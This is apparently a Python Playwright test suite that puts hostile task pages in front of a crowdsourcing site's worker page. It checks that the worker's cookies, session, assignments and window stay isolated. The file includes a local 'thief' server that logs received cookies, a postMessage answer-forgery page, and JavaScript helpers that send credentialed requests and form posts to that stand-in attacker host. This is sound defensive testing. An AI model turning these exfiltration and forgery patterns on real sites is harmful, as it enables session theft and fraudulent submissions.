"""Hostile tasks in a real browser, at Bob's work page: on origins of their own, and without any origin.

Whatever a task tries, Bob's other work stays as it was, his session is his, his window stays where it is, and a server
on another port of this machine gets no cookie of ours, in a frame not even under the name that the site is open under.
`attacks.py` says what is tried; that the same page can do what it may do (read its own storage, submit its own answer
once) shows that the harness would see a success.
"""

from __future__ import annotations

import json
import queue
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from kempelen.core.wire.refusals import WorkerRefusal
from kempelen.market.work import history, work
from tests.market.work import new_hit, submit_answer
from tests.web.attacks import LOUD, QUIET
from tests.web.places import MUG, Place, external, running_site, signing_in
from tests.web.test_task_hosts import question

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def browser(whole_browser: Browser) -> Browser:
    """Walls are tried in all of Chromium."""
    return whole_browser


MODES = {"an origin of its own": "kempelen.localhost", "no origin": "127.0.0.1"}
TOOLS = """
const later = (ms) => new Promise((done) => setTimeout(done, ms));
const sent = async (to, how) => (await fetch(to, {mode: 'no-cors', credentials: 'include', ...how})).type;
const loaded = (kind, members) => Promise.race([later(1500).then(() => 'nothing'), new Promise((done) => {
  const made = Object.assign(document.createElement(kind), members);
  made.onload = () => done('loaded');
  made.onerror = () => done('failed');
  document.body.append(made);
})]);
const click = (kind, members) => { const made = Object.assign(document.createElement(kind), members);
  document.body.append(made); if (kind === 'a') made.click(); };
const post = (action, fields, target) => { const form = Object.assign(document.createElement('form'),
  {action, method: 'post', target});
  for (const [name, value] of Object.entries(fields))
    form.append(Object.assign(document.createElement('input'), {name, value}));
  document.body.append(form); form.submit(); };
let loot = '';
"""
QUIET_PAGE = """<!DOCTYPE html><title>Task</title><form><input name="colour"></form><script>
%(tools)s
const it = JSON.parse('%(it)s');
it.own = new URLSearchParams(location.search).get('assignmentId'); it.task = location.origin;
const outcomes = {};
const attempt = async (name, deed) => {
  const late = later(3000).then(() => 'nothing');
  try { outcomes[name] = 'got ' + await Promise.race([deed(), late]); }
  catch (error) { outcomes[name] = 'refused ' + error.name; }
};
(async () => { %(attempts)s })()
  .then(() => fetch(it.thief + '/outcomes', {method: 'POST', mode: 'no-cors', body: JSON.stringify(outcomes)}));
</script>"""
LOUD_PAGE = """<!DOCTYPE html><title>Task</title><form onsubmit="return false"><input name="colour"></form>
<button id="go">Go</button><script>
%(tools)s
const it = JSON.parse('%(it)s');
it.own = new URLSearchParams(location.search).get('assignmentId'); it.task = location.origin;
document.getElementById('go').addEventListener('click', () => { %(script)s });
</script>"""
FORGERY = """<!DOCTYPE html><title>Thief</title><script>
const own = new URLSearchParams(location.search).get('own');
const forged = JSON.stringify({assignmentId: own, answer: {colour: 'forged'}, pairs: [['colour', 'forged']]});
parent.postMessage(forged, '*'); top.postMessage(forged, '*');
</script>"""


@dataclass
class Thief:
    """A server of somebody else's on another port of this machine, and all that it was sent."""

    address: str
    cookies: list[str] = field(default_factory=list)
    told: queue.Queue[str] = field(default_factory=queue.Queue)


@contextmanager
def thieving() -> Iterator[Thief]:
    thief = Thief("")

    class Listening(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
            if self.path == "/outcomes":
                thief.told.put(body.decode())
            thief.cookies.append(self.headers.get("Cookie", ""))
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(FORGERY.encode())

        do_POST = do_GET  # noqa: N815 (the library's names)

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Listening)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    thief.address = f"http://localhost:{server.server_port}"
    yield thief
    server.shutdown()
    server.server_close()


@dataclass
class Siege:
    """Bob's window, his other assignment, and what must stay as it is."""

    place: Place
    thief: Thief
    context: BrowserContext
    page: Page
    host: str
    other: work.Accepted
    bait: str  # another group of HITs

    @property
    def site(self) -> str:
        return f"http://{self.host}:{self.place.port}"

    @property
    def neighbour(self) -> str:
        """The thief's server under the very name that the site is open under."""
        return self.thief.address.replace("localhost", self.host)

    def task(self, page: str) -> work.Accepted:
        """Bob at his work page of a new HIT with this page."""
        hit = new_hit(self.place.market, self.place.alice, question=question(page, 0), title="Hostile")
        asked = {"group_id": hit.hit_group_id, "hit_id": hit.hit_id}  # not one that an attack has given back
        accepted = self.place.market.perform(self.place.bob, work.accept, **asked)
        self.page.goto(f"{self.site}{_work_path(accepted)}")
        return accepted

    def given(self) -> str:
        """What an attack is told, as JSON for a script."""
        other = self.other
        task = f"http://{other.hit_id.lower()}.localhost:{self.place.port}"
        return json.dumps(
            {
                "site": self.site,
                "thief": self.thief.address,
                "neighbour": self.neighbour,
                "accept": f"/projects/{self.bait}/tasks/accept_random",
                "other": other.assignment_id,
                "otherWork": _work_path(other),
                "otherSubmit": f"/projects/{other.hit_group_id}/tasks/{other.hit_id}/submit",
                "otherTask": task if self.host != "127.0.0.1" else self.site,
            }
        )

    def assert_unharmed(self, own: work.Accepted) -> None:
        """Bob has his two assignments, his session and nothing new; the thief has no cookie of ours."""
        accepted = {one.assignment_id for one in self.place.queue()}
        assert accepted == {own.assignment_id, self.other.assignment_id}
        with self.place.market.database.reading() as db:
            assert db.all("SELECT * FROM worker_token") == []
        assert not [cookie for cookie in self.thief.cookies if "kempelen_" in cookie]
        fresh = self.context.new_page()
        fresh.goto(f"{self.site}/tasks")
        assert fresh.url == f"{self.site}/tasks"
        assert fresh.locator("text=Hostile").count()
        fresh.close()


def _work_path(accepted: work.Accepted) -> str:
    assignment = f"assignment_id={accepted.assignment_id}"
    return f"/projects/{accepted.hit_group_id}/tasks/{accepted.hit_id}?{assignment}"


@pytest.fixture(scope="module", params=MODES)
def siege(
    request: pytest.FixtureRequest, browser: Browser, password_hash: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Siege]:
    """A site under attack, the same for all attacks of one mode."""
    uploads: Path = tmp_path_factory.mktemp("uploads")
    with thieving() as thief, running_site(thief.address, password_hash, uploads) as place:
        place.one_at_a_time()
        context = browser.new_context()
        host = MODES[request.param]
        # Bob's browser lets the site use all of it, since he has once allowed another task to.
        context.grant_permissions(["camera", "microphone", "geolocation"], origin=f"http://{host}:{place.port}")
        page = signing_in(context, place, host)
        other_hit = new_hit(place.market, place.alice, question=question(MUG, 0), title="Another")
        other = place.market.perform(place.bob, work.accept, group_id=other_hit.hit_group_id)
        bait = new_hit(place.market, place.alice, question=question(MUG, 0), title="Bait").hit_group_id
        yield Siege(place, thief, context, page, host, other, bait)
        context.close()


@pytest.fixture
def besieged(siege: Siege) -> Iterator[Siege]:
    """The same, for one attack of its own; what it has accepted is given back afterwards."""
    yield siege
    for window in siege.context.pages:
        if window is not siege.page:
            window.close()
    siege.page.goto("about:blank")
    for one in siege.place.queue():
        if one.assignment_id != siege.other.assignment_id:
            siege.place.market.perform(siege.place.bob, work.return_assignment, assignment_id=one.assignment_id)


@pytest.fixture(scope="module")
def outcomes(siege: Siege) -> dict[str, str]:
    """What came of each quiet attack; all of them on one page, one after another."""
    attempts = "\n".join(
        f"await attempt({json.dumps(name)}, async () => {{ {attack.script} }});" for name, attack in QUIET.items()
    )
    own = siege.task(QUIET_PAGE % {"tools": TOOLS, "it": siege.given(), "attempts": attempts})
    at = siege.page.url
    # Told to the thief, because looking into the frame would count as the Worker's own doing there.
    found: dict[str, str] = json.loads(siege.thief.told.get(timeout=60))
    siege.assert_unharmed(own)
    assert siege.page.url == at
    siege.place.market.perform(siege.place.bob, work.return_assignment, assignment_id=own.assignment_id)
    return found


@pytest.mark.parametrize("name", QUIET)
def test_a_hostile_task_gets_nothing(outcomes: dict[str, str], siege: Siege, name: str) -> None:
    attack = QUIET[name]
    without_origin = siege.host == "127.0.0.1"
    expected = attack.without_origin if without_origin and attack.without_origin else attack.expected
    assert re.fullmatch(expected, outcomes[name]), outcomes[name]


@pytest.mark.parametrize("name", LOUD)
def test_a_hostile_task_does_nothing_by_a_click(besieged: Siege, name: str) -> None:
    own = besieged.task(LOUD_PAGE % {"tools": TOOLS, "it": besieged.given(), "script": LOUD[name]})
    at = besieged.page.url
    besieged.page.frame_locator("#task").locator("#go").click()
    besieged.page.wait_for_timeout(400)
    besieged.assert_unharmed(own)
    assert besieged.page.url == at
    for frame in besieged.page.frames:
        if "/task/" in frame.url:
            assert frame.evaluate("loot") == ""
    reachable = besieged.page.evaluate(
        """() => { const button = [...document.querySelectorAll('button')]
            .find((one) => /Return/.test(one.textContent));
        const box = button.getBoundingClientRect();
        return button.contains(document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2)) }"""
    )
    assert reachable, "something covers the page"


def test_the_finish_page_of_another_window_waits_for_a_click_that_no_frame_can_steal(besieged: Siege) -> None:
    script = LOUD["open the finish of another assignment"]
    own = besieged.task(LOUD_PAGE % {"tools": TOOLS, "it": besieged.given(), "script": script})
    with besieged.context.expect_page() as opened:
        besieged.page.frame_locator("#task").locator("#go").click()
    opened.value.wait_for_url("**/mturk/finish")
    besieged.assert_unharmed(own)
    answer = besieged.page.goto(f"{besieged.site}/tasks")
    assert answer is not None
    assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]


def test_a_task_at_the_sites_own_name_is_never_asked_for(besieged: Siege) -> None:
    hit = new_hit(
        besieged.place.market, besieged.place.alice, question=external(besieged.neighbour), title="Hostile, at home"
    )
    before = len(besieged.thief.cookies)
    besieged.page.goto(f"{besieged.site}/projects/{hit.hit_group_id}/tasks")
    expect(besieged.page.get_by_role("heading", name="This task is not shown here.")).to_be_visible()
    own = besieged.place.market.perform(besieged.place.bob, work.accept, group_id=hit.hit_group_id)
    besieged.page.goto(f"{besieged.site}{_work_path(own)}")
    expect(besieged.page.get_by_role("heading", name="This task is not shown here.")).to_be_visible()
    besieged.page.wait_for_load_state("load")  # with whatever is in frames
    assert len(besieged.thief.cookies) == before
    besieged.assert_unharmed(own)


def test_a_window_under_the_sites_own_name_gets_its_cookies_so_nobody_else_may_have_that_name(besieged: Siege) -> None:
    """What browsers do, and no site can prevent: docs/operations.md says what to do about it."""
    with thieving() as neighbour:
        script = f"open('{neighbour.address.replace('localhost', besieged.host)}')"
        besieged.task(LOUD_PAGE % {"tools": TOOLS, "it": besieged.given(), "script": script})
        with besieged.context.expect_page() as opened:
            besieged.page.frame_locator("#task").locator("#go").click()
        opened.value.wait_for_load_state()
        assert any("kempelen_session" in cookie for cookie in neighbour.cookies)


def test_a_ticket_is_of_no_use_anywhere_else(besieged: Siege) -> None:
    own = besieged.task(LOUD_PAGE % {"tools": TOOLS, "it": besieged.given(), "script": ""})
    task = next(frame for frame in besieged.page.frames if "/task/" in frame.url)
    parts = urlsplit(task.url)
    elsewhere = {besieged.other.hit_id.lower() + ".localhost", "kempelen.localhost", "127.0.0.1"} - {parts.hostname}
    for host in elsewhere - ({"kempelen.localhost"} if parts.hostname == "127.0.0.1" else set()):
        answer = besieged.page.request.get(
            f"http://127.0.0.1:{besieged.place.port}{parts.path}?{parts.query}",
            headers={"Host": f"{host}:{besieged.place.port}"},
        )
        assert answer.status in (403, 404) or host == "127.0.0.1", (host, answer.status)
        assert answer.status != 200 or "sandbox " in answer.headers["content-security-policy"]
    besieged.assert_unharmed(own)


def test_a_task_keeps_its_own_storage_and_submits_its_own_answer_once(besieged: Siege) -> None:
    """What a task may do; and a message that is sent again does nothing more."""
    script = (
        "localStorage.setItem('mine', 'kept'); loot = localStorage.getItem('mine');"
        " post('/mturk/externalSubmit', {assignmentId: it.own, colour: 'mine'}, '_self')"
    )
    own = besieged.task(LOUD_PAGE % {"tools": TOOLS, "it": besieged.given(), "script": script})
    replay = """() => addEventListener('message', (event) => {
      for (let n = 0; n < 5; n++) dispatchEvent(new MessageEvent('message',
        {data: event.data, origin: event.origin, source: event.source})); }, {once: true})"""
    besieged.page.evaluate(replay)
    besieged.page.frame_locator("#task").locator("#go").click()
    besieged.page.wait_for_url("**/tasks*")
    accepted = {one.assignment_id for one in besieged.place.queue()}
    assert accepted == {besieged.other.assignment_id}
    handed_in = besieged.place.market.perform(besieged.place.bob, history.list_submitted).items
    assert [one.assignment_id for one in handed_in].count(own.assignment_id) == 1
    with pytest.raises(WorkerRefusal):
        besieged.place.market.perform(besieged.place.bob, submit_answer, assignment_id=own.assignment_id, answer="<a/>")
